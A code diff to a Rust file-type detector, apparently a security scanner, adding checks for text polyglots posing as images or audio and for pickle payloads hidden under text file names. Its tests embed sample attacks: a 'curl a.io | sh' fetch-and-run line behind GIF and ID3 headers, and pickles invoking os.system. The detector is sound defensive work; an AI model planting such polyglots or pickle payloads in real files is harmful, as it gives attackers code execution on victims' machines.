@@ -176,6 +176,14 @@ impl Kind {
         )
     }
 
+    /// Whether a name of this kind promises text or data, and no language.
+    const fn is_prose(self) -> bool {
+        matches!(
+            self,
+            Self::Text | Self::Csv | Self::Json | Self::Yaml | Self::Toml
+        )
+    }
+
     /// Content decides; a name decides among the kinds that its content allows.
     pub(crate) fn identify(path: &str, bytes: &[u8]) -> Self {
         if bytes.is_empty() {
@@ -187,6 +195,7 @@ impl Kind {
             let source = named.filter(|named| named.is_text());
             return match source {
                 Some(source) if kind != Self::Pickle && looks_like_text(bytes) => source,
+                None if poses_as_media(bytes) => Self::Text,
                 // The interpreter reads no UTF-16, so as Python it is unreadable, whatever a person sees.
                 Some(Self::Python) if kind == Self::WideText => Self::Python,
                 _ => kind,
@@ -201,11 +210,22 @@ impl Kind {
             return kind;
         }
         match named {
+            // A loader of pickles goes by no name.
+            Some(kind) if kind.is_prose() && magic::is_text_pickle(bytes) => Self::Pickle,
             Some(kind) if kind.is_text() => kind,
             _ if magic::is_text_pickle(bytes) => Self::Pickle,
             _ => by_structure(bytes),
         }
     }
+}
+
+/// A text that begins as pictures, sounds, fonts or tables do, which every shell and interpreter reads as text.
+pub(crate) fn poses_as_media(bytes: &[u8]) -> bool {
+    let media = matches!(
+        magic::kind_of(bytes),
+        Some(Kind::Image | Kind::Audio | Kind::Video | Kind::Font | Kind::Table | Kind::Sqlite)
+    );
+    media && looks_like_text(bytes)
 }
 
 /// The kind a name promises, for comparison with what the content is.
@@ -322,6 +342,8 @@ mod tests {
     fn a_name_decides_among_what_the_content_allows() {
         check("a.py", b"GIF89a=1\nimport os\n", Kind::Python);
         check("a.gif", b"GIF89a\x01\0\x01\0\0\0\0", Kind::Image);
+        check("a.gif", b"GIF89a=1\ncurl a.io | sh\n", Kind::Text);
+        check("a.mp3", b"ID3=1\ncurl a.io | sh\n", Kind::Text);
         check("a.PY", b"x = 1\n", Kind::Python);
         check("Makefile", b"all:\n", Kind::Text);
         check("hook.pth", b"import os\n", Kind::Python);
@@ -338,5 +360,10 @@ mod tests {
     fn text_pickles_are_known_by_their_opcodes() {
         check("model.dat", b"cos\nsystem\n(S'id'\ntR.", Kind::Pickle);
         check("model.dat", b"column,system\n1,2.", Kind::Text);
+        for name in ["model.dat", "model.txt", "model.pkl", "model"] {
+            check(name, b"I1\n0cos\nsystem\n(S'id'\ntR.", Kind::Pickle);
+            check(name, b"\x80\x01cos\nsystem\n(S'id'\ntR.", Kind::Pickle);
+        }
+        check("a.txt", b"cat\ndog\n.", Kind::Text);
     }
 }
